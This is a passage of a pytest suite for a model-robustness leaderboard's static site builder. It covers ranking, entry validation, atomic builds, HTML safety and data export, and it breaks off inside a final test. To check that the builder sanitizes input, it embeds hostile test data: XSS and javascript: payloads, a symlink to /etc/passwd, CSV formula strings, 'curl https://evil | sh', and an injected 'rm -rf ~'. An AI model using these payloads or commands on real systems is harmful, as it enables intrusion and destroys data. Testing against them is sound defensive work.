"""The leaderboard's site: who is ranked how, what is refused, and what its pages hold."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from html.parser import HTMLParser
from itertools import pairwise, takewhile
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from hypothesis import given
from hypothesis import strategies as st
from leaderboard_entries import (
    FLAG,
    Fake,
    boards_with_runs,
    build,
    fake_outcomes,
    fake_record,
    fingerprint,
    read_entries,
    sha256,
    write_entries,
    write_run,
)
from pydantic import ValidationError
from typer.testing import CliRunner

from genrobust.board.board import Board, Contender, contender, make_board, rescored
from genrobust.cli.app import app
from genrobust.errors import GenrobustError, GenrobustWarning
from genrobust.evidence.entry import Author, Link, Outcomes
from genrobust.evidence.outcomes import example_positions
from genrobust.metrics import paired_difference, robust_area
from genrobust.records.outcomes import source_areas
from genrobust.site import build as building
from genrobust.site.build import MARKER
from genrobust.site.cite import bibtex
from genrobust.site.export import FIRST, row_values, to_csv, to_json
from genrobust.site.pages import board_verdict, commands, render
from genrobust.site.tradeoffs import Label, ticks, trade_offs
from genrobust.suites import Suite, load_suite

DIGITS = load_suite("digits")
N, E = len(DIGITS.sample_ids), len(DIGITS.eps)

FAKES = (
    Fake("strong", 0.7, 1, depth="re-attack"),
    Fake("nearly-as-strong", 0.69, 2),
    Fake("weak", 0.2, 3, depth=None),
    Fake("flagged", 0.9, 4, flags=(FLAG,)),
    Fake("failed", 0.95, 5, passed=False),
    Fake(
        "attacked",
        0.6,
        6,
        attacks=(Fake("search", 0.4, 7), Fake("unproven", 0.1, 8, depth="schema")),
    ),
)


def board_of(fakes: Sequence[Fake], root: Path, suite: Suite | None = None) -> Board:
    entries = read_entries(write_entries(root, fakes, suite))
    return make_board([contender(entry) for entry in entries])


@pytest.fixture(scope="module")
def entries(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_entries(tmp_path_factory.mktemp("entries"), FAKES)


@pytest.fixture(scope="module")
def board(entries: Path) -> Board:
    return make_board([contender(entry) for entry in read_entries(entries)])


@pytest.fixture(scope="module")
def site(entries: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("built") / "site"
    build(entries, out)
    return out


def made(
    places: Sequence[int | None], name: str = "model", eps: tuple[float, ...] = (0.1, 0.3)
) -> Contender:
    """A run whose sources first fall at these positions in eps; all are eligible."""
    n = len(places)
    suite = DIGITS.model_copy(update={"eps": eps}).limited(n)
    outcomes = Outcomes(
        sample_ids=suite.sample_ids,
        labels=(0,) * n,
        target_labels=(1,) * n,
        eligible=(True,) * n,
        eps=eps,
        ignore_target=tuple(places),
        target=(None,) * n,
    )
    record = fake_record(suite, outcomes, Fake(name), fingerprint(Fake(name)))
    return Contender(name, name, record, outcomes, None)


places_of_ten = st.lists(st.sampled_from([0, 1, None]), min_size=10, max_size=10)


# ---- Ranking ----


@given(st.integers(0, 1000))
def test_robust_area_is_the_mean_of_the_sources_own(seed: int) -> None:
    outcomes = fake_outcomes(DIGITS, 0.5, seed)
    pairs = list(zip(outcomes.eligible, outcomes.ignore_target, strict=True))
    curve = [sum(on and (place is None or place > e) for on, place in pairs) / N for e in range(E)]
    whole = robust_area(DIGITS.eps, curve, clean=sum(outcomes.eligible) / N)
    assert float(source_areas(outcomes.worst, DIGITS).mean()) == pytest.approx(whole)


def test_a_radius_of_zero_has_no_width() -> None:
    one = made([0, 1, None], eps=(0.0, 0.2))
    assert one.outcomes is not None
    areas = source_areas(one.outcomes.worst, one.record.suite)
    assert areas.tolist() == [0.5, 0.5, 1.0]  # what falls at 0 is not eligible


def test_intervals_agree_with_those_of_paired_differences() -> None:
    """With one radius a source's area is half of (1 + whether it stands)."""
    draws = np.random.default_rng(0)
    falls = draws.random((2, N)) < [[0.3], [0.5]]
    one, two = (
        made([0 if fallen else None for fallen in row], name, eps=(0.2,))
        for row, name in zip(falls, "ab", strict=True)
    )
    found = make_board([one, two])
    suite = one.record.suite
    other = paired_difference(
        torch.tensor(~falls[0]),
        torch.tensor(~falls[1]),
        confidence=suite.confidence,
        resamples=20_000,
    )
    ours = found.paired.difference("a", "b")
    assert ours.value == pytest.approx(other.value / 2)
    assert ours.low == pytest.approx(other.low / 2, abs=0.01)
    assert ours.high == pytest.approx(other.high / 2, abs=0.01)


def test_models_share_a_rank_with_the_first_of_their_group_only() -> None:
    """b cannot be told from a, nor c from b; but c can be told from a: it leads its own group."""
    rows = make_board(
        [
            made([None] * 60, "a"),
            made([None] * 58 + [0] * 2, "b"),
            made([None] * 55 + [0] * 5, "c"),
            made([0] * 60, "d"),
        ]
    ).rows
    assert [(row.contender.id, row.rank, row.tied) for row in rows] == [
        ("a", 1, 2),
        ("b", 1, 2),
        ("c", 3, 1),
        ("d", 4, 1),
    ]


def test_equal_outcomes_share_the_first_rank() -> None:
    rows = make_board([made([0, 1, None] * 5, name) for name in "abc"]).rows
    assert [(row.rank, row.tied) for row in rows] == [(1, 3)] * 3


@given(st.lists(places_of_ten, min_size=2, max_size=4), st.randoms(use_true_random=False))
def test_ranks_do_not_depend_on_the_order_of_entries(
    places: list[list[int | None]], shuffler: Any
) -> None:
    given_order = [made(place, f"m{i}") for i, place in enumerate(places)]
    shuffled = [*given_order]
    shuffler.shuffle(shuffled)
    one, other = make_board(given_order), make_board(shuffled)
    assert one == other
    assert one.paired.ids == other.paired.ids
    assert np.array_equal(one.paired.means, other.paired.means)


def test_a_model_holds_one_place_that_of_its_lowest_area(tmp_path: Path) -> None:
    fakes = [Fake(name, strength, n) for n, (name, strength) in enumerate(
        [("lucky", 0.8), ("usual", 0.6), ("unlucky", 0.3), ("other", 0.5)]
    )]  # fmt: skip
    entries = read_entries(write_entries(tmp_path, [*fakes, Fake("flagged", 0.1, flags=(FLAG,))]))
    contenders = [
        replace(one, record=one.record.model_copy(update={"model": model}))
        for one in map(contender, entries)
        for model in [one.record.model.model_copy(
            update={} if one.id == "other" else {"fingerprint": "a" * 64}
        )]
    ]  # fmt: skip
    found = {row.contender.id: (row.standing, row.rank) for row in make_board(contenders).rows}
    assert found == {
        "other": ("ranked", 1),
        "unlucky": ("ranked", 2),
        "lucky": ("repeated", None),
        "usual": ("repeated", None),
        "flagged": ("unreliable", None),
    }


def test_the_board_is_ordered_by_standing_then_area(board: Board) -> None:
    found = [(row.contender.id, row.standing, row.rank is not None) for row in board.rows]
    assert [name for name, _, _ in found][-3:] == ["weak", "flagged", "failed"]
    assert [ranked for _, _, ranked in found] == [True] * 3 + [False] * 3
    areas = [row.area for row in board.ranked]
    assert areas == sorted(areas, reverse=True)


def test_flagged_and_failed_models_are_never_ranked(board: Board) -> None:
    by_name = {row.contender.id: row for row in board.rows}
    assert by_name["flagged"].standing == "unreliable"
    assert by_name["failed"].standing == "failed"
    assert by_name["failed"].area > max(row.area for row in board.ranked)


# ---- Attacks ----


@given(st.lists(places_of_ten, min_size=1, max_size=3))
def test_merging_keeps_each_sources_smallest_radius(places: list[list[int | None]]) -> None:
    first, *others = [o.worst for place in places if (o := made(place).outcomes) is not None]
    merged = first.merged(others)
    for source, place in enumerate(merged.ignore.tolist()):
        known = [p[source] for p in places if p[source] is not None]
        assert place == (min(known) if known else 2)


def test_an_attack_lowers_a_model_only_once_it_was_replayed(board: Board, entries: Path) -> None:
    row = next(row for row in board.rows if row.contender.id == "attacked")
    assert [(one.attack.entry.slug, one.accepted) for one in row.lowerings] == [
        ("search", True),
        ("unproven", False),
    ]
    own, search = (fake_outcomes(DIGITS, *how).worst for how in ((0.6, 6), (0.4, 7)))
    expected = float(source_areas(own.merged([search]), DIGITS).mean())
    assert row.area == pytest.approx(expected)
    assert row.best_attack is not None
    assert row.best_attack.lowers_by == pytest.approx(
        float(source_areas(own, DIGITS).mean()) - expected
    )
    assert row.area < row.contender.record.scores.robust_area.value  # type: ignore[union-attr]


def test_an_attack_verified_before_its_entry_changed_does_not_count(tmp_path: Path) -> None:
    fake = Fake("model", 0.6, 1, attacks=(Fake("search", 0.1, 2),))
    write_entries(tmp_path, [fake])
    changed = tmp_path / "digits-v1/model/attacks/search/entry.json"
    changed.write_text(changed.read_text().replace("Made up", "Written"))
    (loaded,) = read_entries(tmp_path)
    (row,) = make_board([contender(loaded)]).rows
    assert loaded.attacks[0].state == "unverified"
    assert row.best == row.contender.record


def test_rescoring_counts_what_the_outcomes_say() -> None:
    outcomes = fake_outcomes(DIGITS, 0.5, 3)
    found = rescored(fake_record(DIGITS, outcomes, Fake(), "f" * 64), outcomes.worst).scores
    sources = list(
        zip(
            outcomes.labels,
            outcomes.target_labels,
            outcomes.eligible,
            outcomes.ignore_target,
            outcomes.target,
            strict=True,
        )
    )
    for e, at in enumerate(found.per_eps):
        changed = [on and a is not None and a <= e for _, _, on, a, _ in sources]
        aimed = [on and t is not None and t <= e for _, _, on, _, t in sources]
        standing = sum(on for _, _, on, _, _ in sources) - sum(changed)
        assert at.robust_accuracy.value == pytest.approx(standing / N)
        assert at.as_target is not None
        assert at.as_target.value == pytest.approx(sum(aimed) / sum(outcomes.eligible))
        for y in range(10):
            for t in range(10):
                pair = [i for i, s in enumerate(sources) if s[:3] == (y, t, True)]
                assert at.as_ignore_target_pairs.n[y][t] == len(pair)
                rate = at.as_ignore_target_pairs.rate[y][t]
                hits = sum(changed[i] for i in pair)
                assert rate == (pytest.approx(hits / len(pair)) if pair else None)
        assert at.robust_accuracy.low <= at.robust_accuracy.value <= at.robust_accuracy.high


# ---- What is refused ----


def entry_folder(root: Path) -> Path:
    return root / "digits-v1" / "vae"


def edit(name: str, change: Callable[[Any], Any], rehash: bool = True) -> Callable[[Path], None]:
    """Changes a JSON file of the entry, and its hash in entry.json: only the change shows."""

    def apply(folder: Path) -> None:
        content = json.loads((folder / name).read_text())
        change(content)
        text = json.dumps(content)
        (folder / name).write_text(text)
        if rehash and name != "entry.json":
            edit("entry.json", lambda e: e["files"].update({name: sha256(text.encode())}))(folder)

    return apply


def set_at(*path: Any) -> Callable[[Any], None]:
    *outer, last, value = path

    def change(content: Any) -> None:
        for key in outer:
            content = content[key]
        content[last] = value

    return change


def put(name: str, content: bytes) -> Callable[[Path], None]:
    def apply(folder: Path) -> None:
        (folder / name).write_bytes(content)
        edit("entry.json", lambda e: e["files"].update({name: sha256(content)}))(folder)

    return apply


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"

REFUSED: dict[str, tuple[Callable[[Path], Any], str]] = {
    "no record": (lambda f: (f / "record.json").unlink(), "record.json is missing"),
    "no outcomes": (lambda f: (f / "outcomes.json").unlink(), "outcomes.json is missing"),
    "not JSON": (lambda f: (f / "entry.json").write_text("{"), "entry.json"),
    "unknown field": (edit("entry.json", set_at("rank", 1)), "rank"),
    "another slug": (edit("entry.json", set_at("slug", "else")), "slug 'else'"),
    "another board": (edit("entry.json", set_at("suite", "mnist-v1")), "'mnist-v1'"),
    "another suite": (edit("record.json", set_at("suite", "version", 2)), "digits-v2"),
    "another model": (edit("record.json", set_at("model", "fingerprint", "e" * 64)), "fingerprint"),
    "a changed suite": (edit("record.json", set_at("suite", "eps", 0, 0.01)), "suite_sha256"),
    "not official": (edit("record.json", set_at("official", False)), "official"),
    "a hash": (edit("record.json", set_at("seed", 9), rehash=False), "by its hash"),
    "a better score": (
        edit("record.json", set_at("scores", "per_eps", 1, "robust_accuracy", "value", 0.99)),
        "robust accuracy at eps 0.04",
    ),
    "fewer successes": (
        edit("record.json", set_at("scores", "per_eps", 0, "as_target", "value", 0.5)),
        "as_target at eps 0.02",
    ),
    "more eligible": (edit("record.json", set_at("scores", "eligible", N + 1)), "eligible"),
    "a better area": (
        edit("record.json", set_at("scores", "robust_area", "value", 0.99)),
        "robust area",
    ),
    "NaN": (edit("record.json", set_at("scores", "eps50", float("nan"))), "NaN"),
    "infinity": (edit("record.json", set_at("scores", "kl", "value", float("inf"))), "infinite"),
    "other outcomes": (
        edit("outcomes.json", set_at("ignore_target", [None] * N)),
        "outcomes.json gives",
    ),
    "an outcome less": (edit("outcomes.json", set_at("target", [None])), "lengths"),
    "no such radius": (edit("outcomes.json", set_at("target", 0, 99)), "radius"),
    "other sources": (edit("outcomes.json", set_at("sample_ids", 0, 4321)), "sources"),
    "a link": (lambda f: (f / "traversals.png").symlink_to("/etc/passwd"), "is a link"),
    "no PNG": (put("thumbnails.png", b"<svg onload=alert(1)>" * 9), "not a PNG"),
    "a vast PNG": (put("thumbnails.png", PNG + b"\x7f\xff\xff\xff" * 2), "is 2147483647 by"),
    "a heavy PNG": (put("thumbnails.png", PNG + bytes(3 * 2**20)), "bytes"),
    "an attack as model": (edit("entry.json", set_at("kind", "attack")), "attacks/"),
    "a script as link": (
        edit("entry.json", set_at("submission", "links", 0, "url", "javascript:alert(1)")),
        "url",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_an_entry_that_does_not_fit_is_left_out_with_a_sentence(name: str, tmp_path: Path) -> None:
    spoil, reason = REFUSED[name]
    write_entries(tmp_path / "entries", [Fake("vae", attacks=(Fake("search", 0.3, 2),))])
    spoil(entry_folder(tmp_path / "entries"))
    out = tmp_path / "site"
    result = CliRunner().invoke(
        app, ["leaderboard", "build", "--entries", str(tmp_path / "entries"), "--out", str(out)]
    )
    assert result.exit_code == 0
    lines = [line for line in result.output.splitlines() if line.startswith("Warning:")]
    assert any(reason in line and "digits-v1/vae" in line for line in lines), result.output
    assert not (out / "digits-v1").exists()


def test_a_folder_without_an_entry_is_left_out_and_said(tmp_path: Path) -> None:
    write_entries(tmp_path, [Fake("vae")])
    (entry_folder(tmp_path).parent / "leftover").mkdir()
    with pytest.warns(GenrobustWarning, match="leftover' is left out: it has no entry.json"):
        found = read_entries(tmp_path)
    assert [entry.folder.name for entry in found] == ["vae"]


def test_an_attack_on_another_model_or_on_no_entry_is_refused(tmp_path: Path) -> None:
    write_entries(tmp_path, [Fake("vae", attacks=(Fake("search", 0.3, 2),))])
    folder = entry_folder(tmp_path) / "attacks/search"
    edit("entry.json", set_at("fingerprint", "e" * 64))(folder)
    with pytest.raises(GenrobustError, match="fingerprints"):
        read_entries(tmp_path)
    (folder / "entry.json").unlink()
    with pytest.raises(GenrobustError, match=r"search'.* entry\.json is missing"):
        read_entries(tmp_path)


def test_an_attack_on_other_sources_is_refused(tmp_path: Path) -> None:
    write_entries(tmp_path, [Fake("vae", attacks=(Fake("search", 0.3, 2),))])
    folder = entry_folder(tmp_path) / "attacks/search"
    other = DIGITS.model_copy(update={"target_ids": DIGITS.target_ids[::-1]})
    edit("record.json", set_at("suite", "target_ids", list(other.target_ids)))(folder)
    edit("record.json", set_at("suite_sha256", other.sha256))(folder)
    with pytest.raises(GenrobustError, match="other sources, radii or judges"):
        read_entries(tmp_path)


def test_entries_of_a_board_must_be_of_one_suite(tmp_path: Path) -> None:
    write_entries(tmp_path, [Fake("one")])
    changed = DIGITS.model_copy(update={"resamples": 7})
    write_entries(tmp_path, [Fake("two")], changed)
    with pytest.raises(GenrobustError, match="'one' and 'two' differ"):
        make_board(list(map(contender, read_entries(tmp_path))))


def test_a_folder_that_is_no_board_is_left_out_and_said(tmp_path: Path) -> None:
    (tmp_path / "digits").mkdir()
    with pytest.warns(GenrobustWarning, match="not named after a suite, such as digits-v1"):
        assert read_entries(tmp_path) == ()


# ---- The built folder ----


def files_of(folder: Path) -> dict[str, bytes]:
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def test_the_same_entries_give_the_same_bytes(site: Path, entries: Path, tmp_path: Path) -> None:
    shutil.copytree(entries, tmp_path / "moved")
    build(tmp_path / "moved", tmp_path / "again")
    assert files_of(tmp_path / "again") == files_of(site)


def test_a_site_is_replaced_whole(entries: Path, tmp_path: Path) -> None:
    out = tmp_path / "site"
    write_entries(tmp_path / "few", [Fake("only")])
    build(tmp_path / "few", out)
    build(entries, out)
    assert not (out / "digits-v1/only").exists()
    assert (out / "digits-v1/strong/index.html").exists()
    assert {path.name for path in tmp_path.iterdir()} == {"few", "site"}


def test_a_build_that_fails_midway_leaves_the_old_site(
    entries: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "site"
    build(entries, out)
    before = files_of(out)

    def half(boards: object) -> Iterator[tuple[str, bytes]]:
        yield "index.html", b"half"
        raise KeyboardInterrupt

    monkeypatch.setattr(building, "render", half)
    with pytest.raises(KeyboardInterrupt):
        build(entries, out)
    assert files_of(out) == before
    assert [path.name for path in tmp_path.iterdir()] == ["site"]


def test_a_rename_that_fails_puts_the_old_site_back(
    entries: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "site"
    build(entries, out)
    before, real = files_of(out), os.rename

    def refuse_new(source: Path, target: Path) -> None:
        if source.name == "site" and target == out:
            raise OSError(28, "No space left on device")
        real(source, target)

    monkeypatch.setattr(building, "_exchange", lambda new, old: False)
    monkeypatch.setattr(os, "rename", refuse_new)
    with pytest.raises(GenrobustError, match="No space left"):
        build(entries, out)
    assert files_of(out) == before


@pytest.mark.parametrize("kind", ["full", "file", "link"])
def test_what_is_not_a_site_is_left_alone(kind: str, entries: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    if kind == "file":
        out.write_text("mine")
    elif kind == "link":
        (tmp_path / "elsewhere").mkdir()
        out.symlink_to(tmp_path / "elsewhere")
    else:
        out.mkdir()
        (out / "thesis.tex").write_text("mine")
    with pytest.raises(GenrobustError, match="--out"):
        build(entries, out)
    assert out.is_symlink() or (out if out.is_file() else out / "thesis.tex").read_text() == "mine"


def test_an_empty_folder_is_filled(entries: Path, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    build(entries, tmp_path / "out")
    assert (tmp_path / "out" / MARKER).exists()


def test_without_entries_the_site_says_how_to_make_one(tmp_path: Path) -> None:
    (tmp_path / "entries").mkdir()
    assert build(tmp_path / "entries", tmp_path / "site") == ()
    page = Page((tmp_path / "site/index.html").read_text())
    assert "No entries yet" in page.text
    assert "genrobust submit" in page.text


def test_a_folder_that_is_not_there_is_a_mistake(tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["leaderboard", "build", "--entries", str(tmp_path / "no")])
    assert result.exit_code == 2
    assert "--entries" in result.output


# ---- The pages ----


class Page(HTMLParser):
    """A page's tags with their attributes, and its text."""

    VOID = ("meta", "img", "br", "link", "input")

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.parts: list[str] = []
        self.inline: dict[str, list[str]] = {"style": [], "script": []}
        self.feed(html)
        self.close()
        assert self.open == [], "a tag was left open"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, "tags are not nested"

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] in self.inline:
            self.inline[self.open[-1]].append(data)
        else:
            self.parts.append(data)

    @property
    def text(self) -> str:
        return " ".join("".join(self.parts).split())

    def all(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.tags if name == tag]

    @property
    def data(self) -> Any:
        return json.loads(self.inline["script"][1])


def pages_of(folder: Path) -> dict[Path, Page]:
    return {path: Page(path.read_text()) for path in sorted(folder.rglob("*.html"))}


def test_every_link_and_picture_is_there(site: Path) -> None:
    pages = pages_of(site)
    assert len(pages) == 1 + 2 + len(FAKES)
    for path, page in pages.items():
        ids = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
        assert len(ids) == len(set(ids)), path
        for _, attributes in page.tags:
            for name in ("href", "src"):
                target = attributes.get(name, "")
                if target.startswith("#"):
                    assert target[1:] in ids, (path, target)
                elif target and not target.startswith(("https://example.org", "data:")):
                    file, _, place = target.partition("#")
                    assert (path.parent / file).is_file(), (path, target)
                    assert not place or f'id="{place}"' in (path.parent / file).read_text()


def test_pages_load_nothing_and_allow_nothing(site: Path) -> None:
    for path, page in pages_of(site).items():
        assert not {"iframe", "object", "embed", "base"} & {tag for tag, _ in page.tags}
        for tag, attributes in page.tags:
            assert not [name for name in attributes if name.startswith("on")], (path, tag)
            assert "style" not in attributes, (path, tag)
        (policy,) = [tag["content"] for tag in page.all("meta") if "http-equiv" in tag]
        directives = dict(part.split(" ", 1) for part in policy.split("; "))
        assert directives["default-src"] == "'none'"
        assert "unsafe" not in policy
        for kind in ("style", "script"):
            digest = hashlib.sha256(page.inline[kind][0].encode()).digest()
            assert directives[f"{kind}-src"] == f"'sha256-{base64.b64encode(digest).decode()}'"


def test_pictures_have_texts_and_inputs_have_names(site: Path) -> None:
    for page in pages_of(site).values():
        assert all(len(picture["alt"]) > 20 for picture in page.all("img"))
        labelled = {label["for"] for label in page.all("label") if "for" in label}
        for field in page.all("input"):
            named = "aria-label" in field or field.get("id") in labelled
            assert named or field.get("name") == "column"


def test_every_row_has_a_cell_for_every_column(site: Path) -> None:
    html = (site / "digits-v1/index.html").read_text()
    head = re.search(r"<thead>.*?</thead>", html, re.S)
    body = re.search(r"<tbody.*?</tbody>", html, re.S)
    assert head is not None
    assert body is not None
    columns = head[0].count("<th ")
    rows = re.findall(r"<tr.*?</tr>", body[0], re.S)
    assert len(rows) == len(FAKES)
    assert {len(re.findall(r"<t[dh][ >]", row)) for row in rows} == {columns}


@pytest.mark.parametrize(
    "shown",
    [
        *("strong has the largest robust area", "nearly as strong", "re-attack", "unverified"),
        *("1 flag", FLAG.evidence, "flagged, not reliable", "failed verification"),
        *("search", "lowers it by", "Ada Author", "2026-10-02"),
    ],
)
def test_the_board_shows(shown: str, site: Path) -> None:
    assert shown in Page((site / "digits-v1/index.html").read_text()).text


@pytest.mark.parametrize(
    ("entry", "shown"),
    [
        *[("attacked", words) for words in ("Lowered by submitted attacks", "search", "unproven")],
        ("failed", "Failed its verification"),
        ("failed", "as_target at eps 0.1 is 0.31, not 0.12"),
        ("flagged", FLAG.evidence),
        ("weak", "Nobody has verified this entry yet"),
        ("strong", "genrobust verify leaderboard/entries/digits-v1/strong --depth re-attack"),
        ("strong", "genrobust bench --suite digits --seed 0 --model vae"),
        ("strong", "@misc{genrobust-digits-v1-strong,"),
        ("strong", "the digits' training split"),
        ("strong", fingerprint(Fake("strong"))),
        ("strong", "Rank 1, shared by 2, of 3 ranked models."),
    ],
)
def test_the_page_of_an_entry_shows(entry: str, shown: str, site: Path) -> None:
    assert shown in Page((site / f"digits-v1/{entry}/index.html").read_text()).text


def test_headings_do_not_skip_a_level(site: Path) -> None:
    for path, page in pages_of(site).items():
        levels = [int(tag[1]) for tag, _ in page.tags if re.fullmatch("h[1-6]", tag)]
        assert levels[0] == 1, path
        assert levels.count(1) == 1, path
        assert all(b - a <= 1 for a, b in pairwise(levels)), path


EVIL = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'`{{7*7}}<!--"


def test_what_submitters_wrote_is_text_and_never_markup(tmp_path: Path) -> None:
    fake = Fake(
        "evil",
        submission={
            "name": EVIL[:80],
            "authors": (Author(name=EVIL, affiliation=EVIL),),
            "links": (Link(label=EVIL[:60], url=f"https://example.org/\"'><script>{EVIL}"),),
            "family": EVIL[:40],
            "licence": EVIL[:80],
            "training_data": EVIL,
            "note": f"{EVIL}\n[click](javascript:alert(1))",
        },
        flags=(FLAG.model_copy(update={"name": EVIL, "evidence": EVIL}),),
        attacks=(Fake("search", 0.1, 2, submission={"name": EVIL[:80], "note": EVIL}),),
    )
    write_entries(tmp_path / "entries", [fake, Fake("good")])
    folder = tmp_path / "entries/digits-v1/evil"
    edit("record.json", set_at("provenance", "command", EVIL))(folder)
    edit("record.json", set_at("model", "name", EVIL))(folder)
    edit("record.json", set_at("model", "card", {EVIL: EVIL}))(folder)
    build(tmp_path / "entries", tmp_path / "site")
    for path, page in pages_of(tmp_path / "site").items():
        scripts = page.all("script")
        assert len(scripts) == (
            2 if path.parent.name == "digits-v1" and path.stem == "index" else 1
        )
        assert "x" not in [picture["src"] for picture in page.all("img")]
        for link in page.all("a"):
            assert not link.get("href", "").startswith("javascript")
    board = Page((tmp_path / "site/digits-v1/index.html").read_text())
    assert EVIL[:80] in board.text
    assert "{{7*7}}" in Page((tmp_path / "site/digits-v1/evil/index.html").read_text()).text
    assert EVIL[:80] in board.data["values"]["evil"]


@pytest.mark.parametrize("url", ["javascript:alert(1)", "http://example.org", "data:text/html,x"])
def test_links_are_https(url: str) -> None:
    with pytest.raises(ValidationError):
        Link(label="paper", url=url)


@pytest.mark.slow
def test_a_board_of_a_thousand_begins_small_and_grows_in_step(tmp_path: Path) -> None:
    mnist = load_suite("mnist")
    (loaded,) = read_entries(write_entries(tmp_path, [Fake("model", pictures=False)], mnist))
    one = contender(loaded)
    model, scores = one.record.model, one.record.scores

    def rated(i: int) -> Any:
        """Another model than the others."""
        error = scores.reconstruction_error.model_copy(update={"value": 5 + i / 100})
        return scores.model_copy(update={"reconstruction_error": error})

    def files_of(count: int) -> dict[str, bytes]:
        many = [
            replace(
                one,
                id=f"model-number-{i}",
                name=f"model number {i}",
                record=one.record.model_copy(
                    update={
                        "model": model.model_copy(update={"fingerprint": f"{i:064x}"}),
                        "scores": rated(i),
                    }
                ),
            )
            for i in range(count)
        ]
        boards = render([make_board(many)])
        return dict(takewhile(lambda file: "/model-number-" not in file[0], boards))

    first, some, all_of_them = (files_of(count) for count in (FIRST, 500, 1000))
    assert "mnist-v1/all.html" not in first
    for files in (first, some, all_of_them):
        assert len(files["index.html"]) < 300_000
        assert len(files["mnist-v1/index.html"]) < 300_000
        assert files["mnist-v1/index.html"].count(b"<tr data-id=") == FIRST
    assert b'href="all.html"' in all_of_them["mnist-v1/index.html"]
    assert all_of_them["mnist-v1/all.html"].count(b"<tr data-id=") == 1000
    for name in ("all.html", "board.json", "board.csv", "trade-offs.html"):
        small, large = (len(files[f"mnist-v1/{name}"]) for files in (some, all_of_them))
        assert large < 2.1 * small, name
    told = json.loads(all_of_them["mnist-v1/board.json"])["robust_area_differences"]
    against = {one["second"] for one in told}
    assert against == {f"model-number-{i}" for i in range(1000)} - {told[0]["first"]}


# ---- Files for other programs ----


def test_csv_and_json_say_the_same(site: Path) -> None:
    table = list(csv.DictReader((site / "digits-v1/board.csv").read_text().splitlines()))
    rows = json.loads((site / "digits-v1/board.json").read_text())["rows"]
    assert [row["id"] for row in table] == [row["id"] for row in rows]
    for cells, row in zip(table, rows, strict=True):
        assert {k: "" if v is None else str(v) for k, v in row.items()} == cells


def test_json_holds_the_differences_that_the_ranks_come_from(site: Path, board: Board) -> None:
    content = json.loads((site / "digits-v1/board.json").read_text())
    assert content["suite"]["sha256"] == DIGITS.sha256
    told = {(d["first"], d["second"]): d["low"] for d in content["robust_area_differences"]}
    assert len(told) == len(FAKES) * (len(FAKES) - 1) // 2
    leader, *others = [row.contender.id for row in board.ranked]
    ties = [name for name in others if told[leader, name] <= 0]
    assert [row.contender.id for row in board.leaders] == [leader, *ties]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx"])
def test_no_cell_of_the_csv_is_a_formula(text: str, tmp_path: Path) -> None:
    found = board_of([Fake("vae", submission={"name": text})], tmp_path)
    (row,) = csv.DictReader(io.StringIO(to_csv(found)))
    assert row["name"] == f"'{text}"
    assert json.loads(to_json(found))["rows"][0]["name"] == text


def test_a_page_and_its_script_agree_on_the_matrices(site: Path, board: Board) -> None:
    data = Page((site / "digits-v1/index.html").read_text()).data
    for row in board.rows:
        pairs = data["pairs"][row.contender.id]
        k = pairs["classes"]
        last = row.best.scores.per_eps[-1].as_target_pairs
        for source in range(k):
            for target in range(k):
                n, hits = (of[source * k + target] for of in (pairs["n"], pairs["target"][-1]))
                assert n == last.n[source][target]
                assert hits == round((last.rate[source][target] or 0) * n)


def test_a_page_and_its_script_agree_on_differences(site: Path, board: Board) -> None:
    data = Page((site / "digits-v1/index.html").read_text()).data
    ids, packed = data["paired"], iter(data["differences"])
    for i, first in enumerate(ids):
        for second in ids[i + 1 :]:
            found = board.paired.difference(first, second)
            three = [next(packed) / 10_000 for _ in range(3)]
            assert three == pytest.approx([found.value, found.low, found.high], abs=5e-5)
    assert next(packed, None) is None


def test_bibtex_is_text(tmp_path: Path) -> None:
    said = {"name": r"50% \input{x} of $1_000 & #1", "authors": (Author(name="A } \n B"),)}
    (loaded,) = read_entries(write_entries(tmp_path, [Fake("vae", submission=said)]))
    found = bibtex(loaded)
    assert r"50\% \textbackslash{}input\{x\} of \$1\_000 \& \#1" in found
    assert r"author = {{A \} B}}," in found
    unescaped = re.sub(r"\\[{}]", "", found)
    assert unescaped.count("{") == unescaped.count("}")


def test_commands_are_made_from_data_and_not_from_what_was_submitted(tmp_path: Path) -> None:
    write_entries(tmp_path, [Fake("vae")])
    folder = entry_folder(tmp_path)
    edit("record.json", set_at("provenance", "command", "curl https://evil | sh"))(folder)
    external = {
        "kind": "external",
        "source": "https://example.org/vae.pt",
        "weights_sha256": "a" * 64,
        "reference": "x.py:build; rm -rf ~",
    }
    edit("entry.json", set_at("model", external))(folder)
    found = make_board([contender(entry) for entry in read_entries(tmp_path)])
    typed = commands(found, found.rows[0])
    assert "evil" not in typed
    told = "--model 'x.py:build; rm -rf ~' --weights FILE"
    assert [line.count(told) for line in typed.splitlines()] == [0, 1, 1]
    assert typed.endswith(" --trust-code")


def test_a_bundled_model_is_run_from_its_evidence(tmp_path: Path) -> None:
    write_entries(tmp_path, [Fake("vae")])
    bundled = {"kind": "bundle", "format": "exported"}
